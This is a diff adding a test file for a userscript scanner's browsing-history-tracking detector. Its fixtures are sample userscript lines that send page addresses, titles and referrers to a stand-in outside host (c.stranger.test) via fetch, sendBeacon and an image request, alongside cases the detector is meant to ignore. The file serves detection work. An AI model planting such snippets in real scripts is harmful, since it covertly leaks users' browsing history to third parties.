@@ -1,0 +1,46 @@
+import { describe, expect, test } from "vitest";
+import { findIn, userscript } from "../testing/find-in.ts";
+import { historyTracking } from "./history-tracking.ts";
+
+describe("history-tracking", () => {
+	test.each([
+		[
+			"the address of every page",
+			["high 5"],
+			userscript(["match *://*/*"], `fetch("https://c.stranger.test/?u="+encodeURIComponent(location.href))`),
+		],
+		[
+			"title and referrer of every page",
+			["high 5"],
+			userscript(
+				["match *://*/*"],
+				`navigator.sendBeacon("https://c.stranger.test/",document.title+document.referrer)`,
+			),
+		],
+		[
+			"addresses of one site",
+			["medium 5"],
+			userscript(["match https://shop.example/*"], `new Image().src="https://c.stranger.test/?u="+location.pathname`),
+		],
+		[
+			"one site, a declared server: told",
+			["low 7"],
+			userscript(
+				["match https://shop.example/*", "grant GM_xmlhttpRequest", "connect api.helper.example"],
+				`GM_xmlhttpRequest({url:"https://api.helper.example/?id="+new URLSearchParams(location.search).get("v")})`,
+			),
+		],
+	])("finds %s", (_title, expected, code) => {
+		expect(findIn(historyTracking, code)).toEqual(expected);
+	});
+
+	test.each([
+		[
+			"sharing a page",
+			`window.open("https://share.stranger.test/?url="+encodeURIComponent(location.href)+"&t="+encodeURIComponent(document.title))`,
+		],
+		["the site itself", userscript(["match https://shop.example/*"], `fetch("/seen?u="+location.href)`)],
+	])("leaves alone %s", (_title, code) => {
+		expect(findIn(historyTracking, code)).toEqual([]);
+	});
+});
